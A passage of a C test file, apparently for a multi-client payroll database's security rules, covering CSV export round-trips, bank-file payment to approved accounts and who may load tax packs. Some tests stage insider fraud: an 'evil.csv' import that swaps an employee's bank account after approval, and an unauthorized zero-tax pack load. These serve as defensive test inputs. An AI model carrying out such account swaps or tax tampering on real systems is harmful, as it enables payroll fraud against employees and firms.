	size_t i, n = sizeof(values) / sizeof(*values);

	(void)state;
	for (i = 0; i < n; i++) {
		struct bd_db_result *res;
		struct strbuf csv = STRBUF_INIT, want = STRBUF_INIT;
		struct bd_csv_reader rd;
		struct bd_csv_record rec = {0};
		struct bd_err err = BD_ERR_INIT;

		res = dbtest_query(su, "SELECT $1::text AS description", 1,
				   (const char *const[]){values[i]}, &err);
		assert_non_null(res);
		bd_db_result_csv(res, &csv);
		strbuf_addf(&want, "description\r\n%s\r\n", written[i]);
		assert_string_equal(csv.buf, want.buf);
		bd_csv_reader_init(&rd, csv.buf, csv.len, "export.csv");
		assert_int_equal(bd_csv_next(&rd, &rec, &err), 1);
		assert_int_equal(bd_csv_next(&rd, &rec, &err), 1);
		assert_string_equal(rec.cells[0], values[i]);
		bd_csv_record_release(&rec);
		bd_db_result_free(res);
		strbuf_release(&csv);
		strbuf_release(&want);
	}
	bd_db_free(su);
}

/*
 * pay2 approves a run; pay1 then changes employee E1001's bank account
 * (import_employees) and makes the bank file: it paid the new account,
 * which no checker saw. payroll.run_compute now keeps the accounts of the
 * run (payroll.run_accounts, 078) and payroll.bank_payments pays those.
 */
static void
test_bank_file_pays_the_approved_accounts(void **state)
{
	static const char account[] = "SELECT bank_account FROM payroll.bank_payments('ACME', "
				      "$1::bigint) WHERE number = 'E1001'";
	struct bd_db *pay1 = dbtest_connect(&t, "pay1");
	struct bd_db *pay2 = dbtest_connect(&t, "pay2");
	char first[16], input[512], *run, *v, *approved, *paid;

	(void)state;
	snprintf(first, sizeof(first), "%.8s01", today);
	run = offcycle_run(pay2, first);
	snprintf(input, sizeof(input),
		 "[{\"_line\":2,\"number\":\"E1001\",\"on_date\":\"%s\",\"code\":\"BONUS\","
		 "\"amount\":\"100\",\"run_kind\":\"offcycle\"}]",
		 today);
	dbtest_named_ok(pay2, "payroll.import_inputs", BD_PARAMS("ACME", "x.csv", input));
	dbtest_named_ok(pay2, "payroll.run_compute", BD_PARAMS("ACME", run));
	v = run_version(pay2, run);
	free(text_of(pay2, "payroll.run_submit", BD_PARAMS("ACME", run, v), "version"));
	free(v);
	v = run_version(pay1, run);
	dbtest_named_ok(pay1, "approvals.approve", BD_PARAMS("payroll.run", "ACME", run, v));
	approved = dbtest_text(pay2, account, run);
	dbtest_named_ok(pay2, "payroll.import_employees",
			BD_PARAMS("ACME", "evil.csv",
				  "[{\"_line\":2,\"number\":\"E1001\",\"name\":\"Maria Santos B.\","
				  "\"hire_date\":\"2019-02-13\",\"pay_group\":\"monthly\","
				  "\"country\":\"PH\",\"bank_account\":\"666999666999\"}]"));
	paid = dbtest_text(pay2, account, run);
	assert_string_equal(paid, approved);
	free(paid);
	free(approved);
	free(v);
	free(run);
	bd_db_free(pay2);
	bd_db_free(pay1);
}

/*
 * pay3 serves GLOBEX only, yet loaded a PH pack version every client's runs
 * compute with (here a withholding tax of nothing from this month on).
 * Packs are the firm's: admins load them.
 */
static void
test_packs_are_the_firms(void **state)
{
	struct bd_db *pay3 = dbtest_connect(&t, "pay3");
	char rows[512];

	(void)state;
	snprintf(rows, sizeof(rows),
		 "[{\"_line\":2,\"record\":\"pack\",\"code\":\"PH\",\"version\":\"99\","
		 "\"country\":\"PH\",\"name\":\"No tax\",\"effective_from\":\"%s\"}]",
		 today);
	named_refused(pay3, "42501", "payroll.pack_load", BD_PARAMS("evil.csv", rows));
	bd_db_free(pay3);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_new_tables_keep_to_their_clients),
	    cmocka_unit_test(test_definer_functions_are_locked),
	    cmocka_unit_test(test_another_client_leaks_nothing),
	    cmocka_unit_test(test_payroll_stays_with_payroll),
	    cmocka_unit_test(test_pay_run_has_four_eyes),
	    cmocka_unit_test(test_approvals_of_the_new_kinds),
	    cmocka_unit_test(test_rates_are_audited),
	    cmocka_unit_test(test_new_modules_notify_by_the_rule),
	    cmocka_unit_test(test_row_security_comes_first),
	    cmocka_unit_test(test_a_refused_codes_load_changes_nothing),
	    cmocka_unit_test(test_exports_defuse_formulas),
	    cmocka_unit_test(test_bank_file_pays_the_approved_accounts),
	    cmocka_unit_test(test_packs_are_the_firms),
	};
	struct bd_db *db;
	char *s;
	int failed;

	dbtest_start(&t, true);
	db = dbtest_connect(&t, NULL);
	/* One operator of each role who serves ACME only. */
	dbtest_exec(db, "SELECT core.operator_add('acct3', 'Ann Acct', 'accountant', '{ACME}');"
			"SELECT core.operator_add('super3', 'Sue Super', 'supervisor', '{ACME}');"
			"SELECT core.operator_add('admin3', 'Al Admin', 'admin', '{ACME}')");
	s = dbtest_text(db, "SELECT current_date::text", NULL);
	snprintf(today, sizeof(today), "%s", s);
	free(s);
	bd_db_free(db);
	/* BD_TEST_FILTER=test_x runs one (e.g. to see it fail on older code). */
	if (getenv("BD_TEST_FILTER"))
		cmocka_set_test_filter(getenv("BD_TEST_FILTER"));
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	dbtest_stop(&t);
	return failed;
}
